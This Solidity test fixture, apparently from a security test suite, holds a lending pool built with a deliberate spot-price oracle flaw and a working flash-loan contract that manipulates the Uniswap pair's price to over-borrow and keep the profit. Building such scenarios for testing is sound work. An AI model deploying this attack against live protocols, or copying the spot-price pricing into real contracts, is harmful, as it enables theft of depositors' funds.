// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

// The price-manipulation scenario of Palisade's tests: a lending pool that prices collateral at a
// Uniswap V2 pair's spot reserves (its flaw: no time-weighted or external price), and the
// flash-loan attack on it. Uniswap V2 comes from its npm artifacts; the tokens are Defi.sol's
// TestToken (OpenZeppelin's ERC20FlashMint).

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";

interface IUniswapV2Pair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

/// Lends `debt` against `collateral` up to 80 % of the collateral's value at the pair's spot
/// price: the flaw.
contract SpotLendingPool {
    IERC20 public immutable collateral;
    IERC20 public immutable debt;
    IUniswapV2Pair public immutable pair;
    mapping(address => uint256) public deposited;
    mapping(address => uint256) public borrowed;

    event Borrowed(address indexed who, uint256 collateralIn, uint256 amount);

    constructor(IERC20 _collateral, IERC20 _debt, IUniswapV2Pair _pair) {
        collateral = _collateral;
        debt = _debt;
        pair = _pair;
    }

    /// Debt tokens per collateral token, 18 decimals, at the pair's reserves now.
    function price() public view returns (uint256) {
        (uint112 r0, uint112 r1,) = pair.getReserves();
        return pair.token0() == address(collateral) ? uint256(r1) * 1e18 / r0 : uint256(r0) * 1e18 / r1;
    }

    function depositAndBorrow(uint256 amount, uint256 loan) external {
        collateral.transferFrom(msg.sender, address(this), amount);
        deposited[msg.sender] += amount;
        borrowed[msg.sender] += loan;
        require(borrowed[msg.sender] * 1e18 * 10 <= deposited[msg.sender] * price() * 8, "undercollateralized");
        debt.transfer(msg.sender, loan);
        emit Borrowed(msg.sender, amount, loan);
    }
}

/// Flash-mints `loan` debt tokens, buys collateral with them on the pair (raising its spot
/// price), deposits `pledge` of it and borrows the most the pool then allows, sells the rest
/// back, repays, and sends what is left to its owner. With `loan` zero there is no flash loan:
/// it borrows against `pledge` (sent to it beforehand) at the fair price.
contract PriceManipulator is IERC3156FlashBorrower {
    address public immutable owner;
    SpotLendingPool public immutable pool;

    constructor(SpotLendingPool _pool) {
        owner = msg.sender;
        pool = _pool;
    }

    function attack(uint256 loan, uint256 pledge) external {
        require(msg.sender == owner, "not owner");
        IERC20 debt = pool.debt();
        if (loan > 0) {
            IERC3156FlashLender(address(debt)).flashLoan(this, address(debt), loan, abi.encode(pledge));
        } else {
            borrow(pledge);
        }
        debt.transfer(owner, debt.balanceOf(address(this)));
        IERC20 c = pool.collateral();
        c.transfer(owner, c.balanceOf(address(this)));
    }

    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        uint256 pledge = abi.decode(data, (uint256));
        IERC20 c = pool.collateral();
        swap(IERC20(token), amount);
        borrow(pledge);
        swap(c, c.balanceOf(address(this)));
        IERC20(token).approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    function borrow(uint256 pledge) internal {
        IERC20 c = pool.collateral();
        c.approve(address(pool), pledge);
        uint256 most = pledge * pool.price() * 8 / 10 / 1e18;
        pool.depositAndBorrow(pledge, most);
    }

    /// Sells `amountIn` of `tokenIn` on the pair (Uniswap V2's formula, 0.3 % fee).
    function swap(IERC20 tokenIn, uint256 amountIn) internal {
        IUniswapV2Pair pair = pool.pair();
        (uint112 r0, uint112 r1,) = pair.getReserves();
        bool zeroIn = pair.token0() == address(tokenIn);
        (uint256 rIn, uint256 rOut) = zeroIn ? (uint256(r0), uint256(r1)) : (uint256(r1), uint256(r0));
        uint256 withFee = amountIn * 997;
        uint256 out = withFee * rOut / (rIn * 1000 + withFee);
        tokenIn.transfer(address(pair), amountIn);
        pair.swap(zeroIn ? 0 : out, zeroIn ? out : 0, address(this), "");
    }
}
